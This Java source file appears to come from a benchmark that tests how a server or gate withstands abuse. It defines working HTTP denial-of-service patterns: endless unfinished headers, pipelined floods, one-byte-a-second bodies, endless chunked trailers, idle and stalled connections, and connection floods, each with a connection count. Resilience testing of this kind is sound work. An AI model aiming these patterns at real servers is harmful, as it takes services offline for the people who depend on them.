// SPDX-License-Identifier: Apache-2.0
package dev.lastcall.bench.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.concurrent.locks.LockSupport;

/** One way to wear a gate out, and on how many connections at once. */
// Raw HTTP is written with its line ends in sight; a text block would hide them.
@SuppressWarnings("StringConcatToTextBlock")
enum Attack {
    /** Nothing but the good client. */
    NONE(0) {
        @Override
        void wage(Socket socket) {
            // There is no connection to do it on.
        }
    },
    /** A head of 61 kB, below every limit, and never its end. */
    HALF_HEADS(3_600) {
        @Override
        void wage(Socket socket) throws IOException {
            send(socket, "GET / HTTP/1.1\r\nHost: a\r\n" + ("X: " + "y".repeat(315) + "\r\n").repeat(190));
            await(socket);
        }
    },
    /** A large upload, so that much is read at once, then small requests without end behind one that is not answered. */
    PIPELINED_HEADS(150) {
        @Override
        void wage(Socket socket) throws IOException {
            send(socket, "POST /small HTTP/1.1\r\nHost: a\r\nContent-Length: 300000\r\n\r\n" + "x".repeat(300_000));
            socket.getInputStream().readNBytes(32);
            send(socket, "GET /hold HTTP/1.1\r\nHost: a\r\n\r\n");
            String many = "GET /small HTTP/1.1\r\nHost: a\r\n\r\n".repeat(2_000);
            while (true) {
                send(socket, many);
            }
        }
    },
    /** Bodies of a megabyte, one byte a second. */
    SLOW_BODIES(2_000) {
        @Override
        void wage(Socket socket) throws IOException {
            send(socket, "POST /small HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n");
            while (true) {
                send(socket, "x");
                LockSupport.parkNanos(SECOND);
            }
        }
    },
    /** Connections that come and go without a word. */
    CONNECTION_FLOOD(64) {
        @Override
        void wage(Socket socket) {
            // The next one comes at once.
        }
    },
    /** Connections that stay and say nothing. */
    IDLE_CONNECTIONS(6_000) {
        @Override
        void wage(Socket socket) throws IOException {
            await(socket);
        }
    },
    /** Chunked bodies whose trailer fields never end. */
    TRAILER_FLOOD(200) {
        @Override
        void wage(Socket socket) throws IOException {
            send(socket, "POST /small HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n");
            String many = "X-Trailer: yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy\r\n".repeat(500);
            while (true) {
                send(socket, many);
            }
        }
    },
    /** Large answers that their clients do not read. */
    STALLED_READERS(1_000) {
        @Override
        void wage(Socket socket) throws IOException {
            send(socket, "GET /large HTTP/1.1\r\nHost: a\r\n\r\n");
            while (true) {
                LockSupport.parkNanos(SECOND / 10);
            }
        }
    };

    private static final long SECOND = 1_000_000_000L;

    private final int connections;

    Attack(int connections) {
        this.connections = connections;
    }

    int connections() {
        return connections;
    }

    String label() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    /** Does it on one connection, until the gate ends that. */
    abstract void wage(Socket socket) throws IOException;

    private static void send(Socket socket, String text) throws IOException {
        OutputStream out = socket.getOutputStream();
        out.write(text.getBytes(StandardCharsets.US_ASCII));
    }

    /** Waits for the gate to end the connection. */
    private static void await(Socket socket) throws IOException {
        while (socket.getInputStream().read() >= 0) {
            // What it says means nothing here.
        }
    }
}
